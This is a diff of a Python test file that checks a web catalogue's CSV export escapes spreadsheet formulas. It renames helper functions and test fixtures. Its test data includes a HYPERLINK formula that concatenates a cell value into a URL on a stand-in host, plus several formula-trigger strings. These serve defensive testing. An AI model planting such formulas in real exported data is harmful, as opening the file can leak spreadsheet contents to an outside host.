@@ -7,11 +7,11 @@ import io
 from urllib.parse import quote
 
 import pytest
-from scripted import Box, File, Scripted, Thing
-from web_site import running
 
 from neuromirror.model import DatasetFacts
-from neuromirror.web.server.tables_process import plain_cell
+from neuromirror.web.server.datasette_process import escape_cell
+from support.running_catalogue import run_catalogue
+from support.scripted_source import ScriptedDataset, ScriptedFile, ScriptedHarness, ScriptedSource
 
 TITLES = [
     '=HYPERLINK("http://x.example.org/?"&A1,"open")',
@@ -28,30 +28,32 @@ TITLES = [
     "value", ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "\n=1", "\uff0b1", "\ufeff=1", "\0=1"]
 )
 def test_text_that_would_be_computed_has_a_quote_before_it(value: str) -> None:
-    assert plain_cell(value) == f"'{value}"
+    assert escape_cell(value) == f"'{value}"
 
 
 @pytest.mark.parametrize("value", ["", "a=1", " =1", 0, -1, -1.5, None, "1-2"])
 def test_other_values_stay(value: object) -> None:
-    assert plain_cell(value) == value
+    assert escape_cell(value) == value
 
 
 @pytest.mark.parametrize(
-    ("value", "shown"),
+    ("value", "demo_harness"),
     [("a;=1", "a;'=1"), ("a; @b;-1", "a; '@b;'-1"), ('a;"=1', "a;\"'=1"), ("a\t+1", "a\t'+1")],
 )
 def test_no_part_of_a_text_is_a_formula_in_a_spreadsheet_with_semicolons(
-    value: str, shown: str
+    value: str, demo_harness: str
 ) -> None:
-    assert plain_cell(value) == shown
+    assert escape_cell(value) == demo_harness
 
 
-def test_no_cell_of_any_csv_is_a_formula(box: Box, source: Scripted) -> None:
+def test_no_cell_of_any_csv_is_a_formula(box: ScriptedHarness, source: ScriptedSource) -> None:
     for number, title in enumerate(TITLES):
         facts = DatasetFacts(title=title)
-        source.things[f"thing{number}"] = Thing({f"=a{number}.txt": File(b"1")}, facts=facts)
+        source.scripted_datasets[f"thing{number}"] = ScriptedDataset(
+            {f"=a{number}.txt": ScriptedFile(b"1")}, facts=facts
+        )
     box.sync()
-    with running(box.store, "--sql") as site:
+    with run_catalogue(box.store, "--sql") as site:
         for path in (
             "/index/datasets.csv",
             "/index/datasets.csv?_labels=on&_size=max",
